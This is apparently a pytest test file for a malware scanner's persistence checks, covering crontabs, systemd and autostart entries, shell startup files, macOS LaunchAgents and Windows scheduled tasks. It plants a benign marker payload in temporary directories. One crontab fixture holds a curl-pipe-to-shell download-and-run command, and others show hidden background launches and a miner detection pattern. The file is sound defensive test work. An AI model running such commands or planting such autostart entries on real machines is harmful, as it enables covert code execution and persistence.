"""Persistence places: every autostart kind, pointed at a generated root in tmp_path."""

from __future__ import annotations

import hashlib
import plistlib
from pathlib import Path

import pytest

from cleannet.scanner.model import DetectionKind, UnscannedReason
from cleannet.scanner.signatures import SignatureSet
from cleannet.scanner.system import engine_file_scan
from cleannet.scanner.system.persistence import Places, scan_persistence
from cleannet.scanner.system.persistence_parsers import (
    command_paths,
    crontab_commands,
    desktop_commands,
    systemd_commands,
    task_xml_commands,
)
from cleannet.scanner.system.windows import WindowsPlaces

PAYLOAD = b"cleannet persistence test payload\n"
DIGEST = hashlib.sha256(PAYLOAD).hexdigest()


def _sigs() -> SignatureSet:
    return SignatureSet.from_bundle_payload(
        {
            "hash-iocs.txt": f"{DIGEST};CleanNet.Test.Payload\n".encode(),
            "filename-iocs.txt": b"# Miner in a command\n(?i)xmrig-marker;75\n",
        }
    )


def _write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def _places(tmp_path: Path, **windows: object) -> Places:
    root, home = tmp_path / "root", tmp_path / "home"
    root.mkdir(exist_ok=True)
    home.mkdir(exist_ok=True)
    return Places(root=root, homes=(home,), windows=WindowsPlaces(registry=False, **windows))


def _scan(places: Places):
    sigs = _sigs()
    return scan_persistence(sigs, engine_file_scan(sigs), places)


@pytest.fixture
def payload(tmp_path: Path) -> Path:
    return _write(tmp_path / "opt" / "update" / "agent.bin", PAYLOAD)


def _places_of(detections, name="CleanNet.Test.Payload") -> set[str]:
    return {
        d.path for d in detections if d.kind is DetectionKind.PERSISTENCE and d.detection == name
    }


def test_it_finds_a_system_crontab_starting_a_detected_file(tmp_path, payload) -> None:
    places = _places(tmp_path)
    crontab = _write(
        places.root / "etc/crontab",
        f"SHELL=/bin/sh\n# m h dom mon dow user command\n*/5 * * * * root {payload} --quiet\n",
    )
    detections, _ = _scan(places)
    assert _places_of(detections) == {f"{crontab}:3"}
    assert str(payload) in {d.path for d in detections}  # the file itself, for quarantine


def test_it_reads_cron_d_user_crontabs_and_cron_directories(tmp_path, payload) -> None:
    places = _places(tmp_path)
    cron_d = _write(places.root / "etc/cron.d/sync", f"@reboot root /bin/sh {payload}\n")
    spool = _write(places.root / "var/spool/cron/crontabs/alice", f"0 * * * * {payload}%input\n")
    hourly = _write(places.root / "etc/cron.hourly/agent", PAYLOAD)
    detections, _ = _scan(places)
    assert _places_of(detections) == {f"{cron_d}:1", f"{spool}:1", str(hourly)}


def test_it_reads_systemd_units_and_xdg_autostart(tmp_path, payload) -> None:
    places = _places(tmp_path)
    home = places.homes[0]
    unit = _write(
        places.root / "etc/systemd/system/agent.service",
        f"[Unit]\nDescription=x\n[Service]\nExecStart=-{payload} \\\n  --daemon\n",
    )
    user_unit = _write(
        home / ".config/systemd/user/u.service", "[Service]\nExecStart=/usr/bin/xmrig-marker\n"
    )
    desktop = _write(
        home / ".config/autostart/agent.desktop",
        f"[Desktop Entry]\nType=Application\nExec={payload} %U\n",
    )
    detections, _ = _scan(places)
    assert _places_of(detections) == {f"{unit}:4", f"{desktop}:3"}
    assert _places_of(detections, "Miner in a command") == {f"{user_unit}:2"}


def test_it_reads_shell_start_up_files_with_home_paths(tmp_path, payload) -> None:
    places = _places(tmp_path)
    home = places.homes[0]
    _write(home / ".cache/.x/agent.bin", PAYLOAD)
    bashrc = _write(home / ".bashrc", 'alias ll="ls -l"\n(~/.cache/.x/agent.bin &) 2>/dev/null\n')
    profile = _write(
        home / ".profile", "export PATH=$HOME/bin:$PATH\nnohup $HOME/.cache/.x/agent.bin\n"
    )
    profile_d = _write(places.root / "etc/profile.d/zz.sh", f"[ -x {payload} ] && {payload}\n")
    detections, _ = _scan(places)
    assert _places_of(detections) == {f"{bashrc}:2", f"{profile}:2", f"{profile_d}:1"}


def test_it_reads_macos_launch_agents(tmp_path, payload) -> None:
    places = _places(tmp_path)
    plist = _write(
        places.homes[0] / "Library/LaunchAgents/com.example.agent.plist",
        plistlib.dumps({"Label": "com.example.agent", "ProgramArguments": [str(payload), "-d"]}),
    )
    broken = _write(places.root / "Library/LaunchDaemons/broken.plist", b"not a plist")
    detections, unscanned = _scan(places)
    assert _places_of(detections) == {str(plist)}
    assert (str(broken), UnscannedReason.PARSE_ERROR) in {(u.path, u.reason) for u in unscanned}


TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Actions Context="Author">
    <Exec><Command>{program}</Command><Arguments>/silent</Arguments></Exec>
  </Actions>
</Task>
"""


def test_it_reads_windows_startup_folders_and_scheduled_tasks(tmp_path, payload) -> None:
    startup = tmp_path / "Startup"
    startup_file = _write(startup / "agent.exe", PAYLOAD)
    task = _write(
        tmp_path / "Tasks/Updater",
        b"\xff\xfe" + TASK_XML.format(program=payload).encode("utf-16-le"),
    )
    evil = _write(tmp_path / "Tasks/Evil", "<!DOCTYPE x [<!ENTITY a 'b'>]><Task/>")
    places = _places(tmp_path, startup_dirs=(startup,), tasks_dir=tmp_path / "Tasks")
    detections, unscanned = _scan(places)
    assert _places_of(detections) == {str(startup_file), str(task)}
    assert (str(evil), UnscannedReason.PARSE_ERROR) in {(u.path, u.reason) for u in unscanned}


def test_it_says_the_registry_is_not_supported_off_windows(tmp_path) -> None:
    places = Places(root=tmp_path, homes=(), windows=WindowsPlaces(registry=True))
    _, unscanned = _scan(places)
    assert [(u.path, u.reason) for u in unscanned] == [
        ("windows-registry", UnscannedReason.NOT_SUPPORTED)
    ]
    assert "only on Windows" in unscanned[0].detail


def test_it_reports_an_unreadable_place_and_skips_missing_files(tmp_path, monkeypatch) -> None:
    places = _places(tmp_path)
    crontab = _write(places.root / "etc/crontab", "* * * * * root /nonexistent/agent\n")
    original = Path.read_bytes

    def deny(self: Path) -> bytes:
        if self == crontab:
            raise PermissionError(13, "Permission denied")
        return original(self)

    monkeypatch.setattr(Path, "read_bytes", deny)
    detections, unscanned = _scan(places)
    assert detections == []
    assert [(u.path, u.reason) for u in unscanned] == [
        (str(crontab), UnscannedReason.PERMISSION_DENIED)
    ]


def test_it_parses_crontab_lines_of_both_formats() -> None:
    system = crontab_commands("@reboot root /opt/a -x\n5 4 * * 1 bob /opt/b%in\n", "t", system=True)
    assert [(e.command, e.paths) for e in system] == [
        ("/opt/a -x", ("/opt/a",)),
        ("/opt/b", ("/opt/b",)),
    ]
    user = crontab_commands("MAILTO=x\n* * * * * curl -o /tmp/p http://x | sh\n", "t", system=False)
    assert [e.paths for e in user] == [("/tmp/p",)]


def test_it_parses_systemd_and_desktop_commands() -> None:
    unit = systemd_commands("[Service]\nExecStartPre=+@/bin/a a\nExecStart=\nUser=x\n", "u")
    assert [e.command for e in unit] == ["/bin/a a"]
    desktop = desktop_commands("[Other]\nExec=/no\n[Desktop Entry]\nExec=/bin/x %F\n", "d")
    assert [e.command for e in desktop] == ["/bin/x"]


def test_it_picks_absolute_paths_from_a_command() -> None:
    assert command_paths("python3 --config=/etc/x.conf /opt/run.py '/a b/c'") == (
        "/etc/x.conf",
        "/opt/run.py",
        "/a b/c",
    )
    assert command_paths("echo $PATH /tmp/*.sh") == ()
    assert command_paths("~/bin/x", home="/home/u") == ("/home/u/bin/x",)
    assert command_paths('"C:\\Program Files\\A\\a.exe" /s', windows=True) == (
        "C:\\Program Files\\A\\a.exe",
    )


def test_it_refuses_task_xml_with_entities() -> None:
    with pytest.raises(ValueError, match="DTD"):
        task_xml_commands(b"<!DOCTYPE t [<!ENTITY x 'y'>]><Task>&x;</Task>", "t")
